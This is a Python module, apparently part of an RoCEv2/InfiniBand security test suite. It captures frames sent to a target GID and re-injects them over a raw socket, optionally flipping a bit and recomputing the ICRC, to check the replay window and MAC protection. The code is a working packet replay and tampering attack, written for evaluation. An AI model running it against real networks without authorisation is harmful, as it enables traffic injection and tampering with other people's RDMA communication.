"""Replay (seed 000 section 6.2): capture frames to a target and inject them again, or modified.

A replayed frame carries an extended PSN the receiver already accepted, so the replay window refuses it
in every mode (mode 0 too: the PSN check is not cryptographic, but then a modified copy with a fresh PSN
and a recomputed ICRC gets through; ``--flip`` shows that the MAC stops modification in modes 1-4).
"""

from __future__ import annotations

import ipaddress
from collections.abc import Iterator

from scapy.utils import rdpcap

from ibsec import icrc
from ibsec.rocev2 import View, parse

from .common import RawSocket, blast, checked, gid_text, int0, parser, report, run


def main(argv: list[str] | None = None) -> int:
    p = parser(__doc__.splitlines()[0])
    p.add_argument("--dst-gid", required=True, help="replay frames sent to this GID")
    p.add_argument("--capture", type=int, default=1, help="frames to capture (then re-inject, cycling)")
    p.add_argument("--sniff", type=float, default=5.0, help="seconds to capture at most")
    p.add_argument("--pcap", help="take the frames from this capture file instead of sniffing")
    p.add_argument("--opcode", default="RC_SEND_ONLY", help="only frames with this opcode")
    p.add_argument("--flip", type=int0, help="flip the low bit of this byte offset before sending")
    p.add_argument("--fix-icrc", action="store_true", help="recompute the ICRC after --flip (mode 0)")
    args = checked(p.parse_args(argv))
    sock = RawSocket(args.iface)
    dst = gid_text(args.dst_gid)
    source = _from_pcap(args.pcap) if args.pcap else sock.sniff(args.sniff)
    captured: list[bytes] = []
    for frame, view in source:
        if view.opcode_name == args.opcode and str(ipaddress.IPv6Address(view.dst_gid)) == dst:
            captured.append(frame)
            if len(captured) >= args.capture:
                break
    if not captured:
        report({"attack": "replay", "captured": 0, "sent": 0})
        return 1
    if args.flip is not None:
        captured = [_flip(frame, args.flip, args.fix_icrc) for frame in captured]
    summary = blast(sock, lambda i: captured[i % len(captured)], args)
    report({"attack": "replay", "captured": len(captured), "modified": args.flip is not None, **summary})
    sock.close()
    return 0


def _from_pcap(path: str) -> Iterator[tuple[bytes, View]]:
    for packet in rdpcap(path):
        frame = bytes(packet)
        view = parse(frame)
        if view is not None:
            yield frame, view


def _flip(frame: bytes, offset: int, fix_icrc: bool) -> bytes:
    out = bytearray(frame)
    out[offset] ^= 1
    return icrc.with_icrc(bytes(out)) if fix_icrc else bytes(out)


if __name__ == "__main__":
    run(main)
